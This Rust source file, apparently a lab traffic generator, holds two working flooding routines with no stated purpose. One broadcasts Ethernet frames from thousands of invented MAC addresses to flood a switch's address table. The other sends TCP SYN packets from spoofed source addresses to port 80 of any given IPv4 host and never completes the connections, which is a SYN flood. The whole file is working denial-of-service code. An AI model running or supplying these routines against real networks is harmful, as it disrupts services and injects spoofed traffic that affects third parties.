//! Frames that no stack would send by itself: many stations, connections that are never completed.

use etherparse::PacketBuilder;
use nix::ifaddrs::getifaddrs;
use nix::sys::socket::{AddressFamily, MsgFlags, SockFlag, SockType, sendto, socket};
use socket2::{Domain, Protocol, Socket, Type};
use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::thread;
use std::time::Duration;

/// Frames sent in one go: a wire has a queue, and what it does not take is lost.
const BURST: u32 = 64;
const PAUSE: Duration = Duration::from_millis(20);
/// An ethertype for experiments (IEEE 802).
const ETHERTYPE: [u8; 2] = [0x88, 0xb5];
/// "Raw": the header is the sender's own.
const RAW: i32 = 255;
/// The network of those who do not exist (RFC 5737).
const NOWHERE: [u8; 3] = [198, 51, 100];

/// Sends a broadcast from each of so many stations by a device.
///
/// # Errors
/// If there is no such device, or raw sockets are not permitted.
pub fn flood_stations(device: &str, stations: u32) -> io::Result<()> {
    let own = getifaddrs()?
        .filter(|found| found.interface_name == device)
        .find_map(|found| found.address?.as_link_addr().copied());
    let to = own.ok_or(io::ErrorKind::NotFound)?;
    let raw = socket(
        AddressFamily::Packet,
        SockType::Raw,
        SockFlag::empty(),
        None,
    )?;
    for number in 0..stations {
        let [_, a, b, c] = number.to_be_bytes();
        let mut frame = vec![0xff; 6];
        // Locally administered, and nobody's.
        frame.extend([0x06, 0xf1, 0x00, a, b, c]);
        frame.extend(ETHERTYPE);
        frame.resize(60, 0);
        sendto(raw.as_raw_fd(), &frame, &to, MsgFlags::empty())?;
        pause(number);
    }
    Ok(())
}

/// Asks for so many connections to port 80, each from someone who does not exist.
///
/// # Errors
/// If raw sockets are not permitted.
pub fn flood_connections(to: Ipv4Addr, connections: u32) -> io::Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))?;
    for number in 0..connections {
        let [.., port_high, host] = number.to_be_bytes();
        let from = [NOWHERE[0], NOWHERE[1], NOWHERE[2], host];
        let port = 1_024 + u16::from(port_high);
        let packet = PacketBuilder::ipv4(from, to.octets(), 64).tcp(port, 80, number, 64_240);
        let mut bytes = Vec::new();
        packet
            .syn()
            .write(&mut bytes, &[])
            .map_err(io::Error::other)?;
        socket.send_to(&bytes, &SocketAddrV4::new(to, 0).into())?;
        pause(number);
    }
    Ok(())
}

fn pause(number: u32) {
    if number % BURST == BURST - 1 {
        thread::sleep(PAUSE);
    }
}
